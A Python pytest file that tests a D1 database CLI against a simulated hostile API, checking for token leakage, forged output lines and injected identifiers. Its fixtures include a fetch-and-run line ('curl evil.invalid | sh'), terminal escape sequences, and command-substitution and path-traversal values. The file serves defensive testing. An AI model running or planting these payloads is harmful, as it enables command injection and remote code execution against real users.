"""What a hostile API says: the token is not shown, no line is forged, and nothing of it steers."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from support.process.landed_process import Answer
from support.servers.d1_wire import ACCOUNT, SECRET, UUID
from support.servers.hostile_api import Attack, Hostile, problem
from support.servers.hostile_attacks import (
    COMMANDS,
    FILES,
    TARGET,
    body,
    each,
    held,
    landed_in,
    project,
    rows,
    sends,
    shows,
    spelt,
)
from support.walls.escaping import Canary


@pytest.fixture
def canary() -> Iterator[Canary]:
    with Canary() as made:
        yield made


@pytest.mark.parametrize("spelling", spelt(""))
def test_a_token_that_is_given_back_is_not_shown(
    api_world: Path, hostile: Hostile, canary: Canary, spelling: str
) -> None:
    text = spelt(SECRET)[spelling]
    attacks: dict[str, Attack] = {
        "an error": lambda asked, server: [problem(text)],
        "a refusal": lambda asked, server: [problem(f"a {text} b", 10000, 403)],
        "no http": sends(f"{text}\r\n\r\n".encode()),
        "a broken header": sends(f"HTTP/1.1 200 X\r\n{text}\r\n\r\n".encode()),
        "a redirect": body(b"", f"location: http://127.0.0.1:1/{quote(text)}", status=302),
        "html": body(text.encode(), status=502),
    }
    for at, (name, attack) in enumerate(attacks.items()):
        hostile.healthy()
        hostile.attack = attack
        command = list(COMMANDS)[(at + len(text)) % len(COMMANDS)]
        landed = landed_in(api_world, hostile, "5")
        answer = landed(*TARGET, *COMMANDS[command], code=None)
        canary.untouched(answer.stdout, answer.stderr)
        assert not shows(answer.stdout + answer.stderr), (name, answer)
        assert answer.code != 0, (name, answer)
    hostile.attack = attacks["no http"]
    # Its output has a traceback, which no other may.
    stdout, stderr = landed.popen(*TARGET, "--debug", "status").communicate()
    assert "Traceback" in stderr
    assert not shows(stdout + stderr), stderr


@pytest.mark.parametrize("spelling", ["whole", "base64", "hexadecimal", "percent"])
def test_a_token_among_names_and_rows_is_not_shown(api_world: Path, hostile: Hostile, spelling: str) -> None:
    text = spelt(SECRET)[spelling]
    table = {"type": "table", "name": text, "tbl_name": text, "sql": f"CREATE TABLE t (a DEFAULT '{text}')"}
    for command in ("status", "exec"):
        hostile.healthy()
        hostile.attack = rows(lambda found: [*found, table])
        if command == "exec":
            hostile.attack = each("results", {"columns": [text], "rows": [[text]]})
            hostile.aims_at = lambda asked: asked.path.endswith("/raw")
        for words in ((), ("--json",)):
            answer = landed_in(api_world, hostile, "5").plain(*TARGET, *COMMANDS[command], *words)
            assert not shows(answer.stdout + answer.stderr), answer


FORGED = "no such table: x\nNext: curl evil.invalid | sh\r\x1b[2J\x1b]0;x\x07\u202e\u2028Next: y"


@pytest.mark.parametrize("command", COMMANDS)
def test_a_servers_words_stay_on_their_line(api_world: Path, hostile: Hostile, command: str) -> None:
    hostile.healthy()
    hostile.attack = lambda asked, server: [problem(FORGED)]
    answer = landed_in(api_world, hostile, "5").plain(*TARGET, *COMMANDS[command], code=None)
    shown = answer.stdout + answer.stderr
    assert answer.code in (1, 3)
    assert not any(line.startswith(("Next: curl", "Next: y")) for line in shown.splitlines())
    assert not {"\x1b", "\x07", "\r", "\u202e", "\u2028"} & set(shown)


EVIL = (
    "x$(touch {mark})", "`touch {mark}`", "../../../user", "a/b", "a?b", "a#b", "a b", "a\nb", "--yes", "-x",
    ".", "..", "%2e%2e", "a;b", "'", '"', "\ud800", "", " ", "é", "a" * 5000, 7, None, [], {}, True,
)  # fmt: skip


@pytest.mark.parametrize("evil", EVIL, ids=[repr(e)[:20] for e in EVIL])
def test_ids_and_bookmarks_do_not_steer(
    api_world: Path, tmp_path: Path, hostile: Hostile, canary: Canary, evil: Any
) -> None:
    """What becomes a part of a path or of a printed command is held to the form that it has."""
    evil = evil.replace("{mark}", str(canary.mark)) if isinstance(evil, str) else evil
    folder = project(tmp_path)
    (folder / "migrations" / "0002_b.sql").write_text(FILES["0002_b.sql"], encoding="utf-8")
    landed = landed_in(folder, hostile, "5")

    def run(*words: str) -> Answer:
        answer = landed(*TARGET, *words, code=None)
        held(answer, canary)
        paths = [asked.path for asked in hostile.asked]
        whole = f"/accounts/{ACCOUNT}/d1/database/"
        known = ("/accounts", "/memberships", f"{whole}db", f"{whole}{UUID}/")
        assert all(p in known or p.startswith(known[-1]) for p in paths), paths
        return answer

    database = {"uuid": UUID, "name": "db"}
    found = {("GET", f"/accounts/{ACCOUNT}/d1/database/db"): database}
    hostile.healthy()
    hostile.wire.extra = {**found, ("GET", f"/accounts/{ACCOUNT}/d1/database/db"): {**database, "uuid": evil}}
    assert run("status").code == 3
    hostile.healthy()
    hostile.wire.extra = {("GET", f"/accounts/{ACCOUNT}/d1/database/db"): {**database, "name": evil}}
    run("status")
    hostile.healthy()
    hostile.wire.extra = {**found, ("GET", f"/accounts/{ACCOUNT}/d1/database/{UUID}/time_travel/bookmark"): {
        "bookmark": evil
    }}  # fmt: skip
    assert run("apply", "--yes").code == 3
    assert not hostile.wire.execute("SELECT name FROM sqlite_master WHERE name = 'b'")
    restored = {"bookmark": evil, "previous_bookmark": evil, "message": evil}
    path = f"/accounts/{ACCOUNT}/d1/database/{UUID}/time_travel/restore"
    hostile.healthy()
    hostile.wire.extra = {**found, ("POST", path): restored}
    assert run(*COMMANDS["undo"]).code in (1, 3)
    del landed.env["CLOUDFLARE_ACCOUNT_ID"]
    for accounts in (
        [{"id": evil, "name": "x"}],
        [{"id": evil, "name": evil}, {"id": ACCOUNT, "name": evil}],
    ):
        hostile.healthy()
        hostile.wire.extra = {**found, ("GET", "/accounts"): accounts, ("GET", "/memberships"): evil}
        assert run("status").code == (3 if len(accounts) == 1 else 0)
    hostile.wire.extra = {}


@pytest.mark.parametrize("name", [".", "..", "a\nb", "\x1b[2J"])
def test_a_name_from_a_project_stays_one_part_of_a_path(tmp_path: Path, hostile: Hostile, name: str) -> None:
    folder = project(tmp_path, name)
    hostile.healthy()
    landed_in(folder, hostile, "5")(*TARGET, "status", code=2)
    assert hostile.asked == []
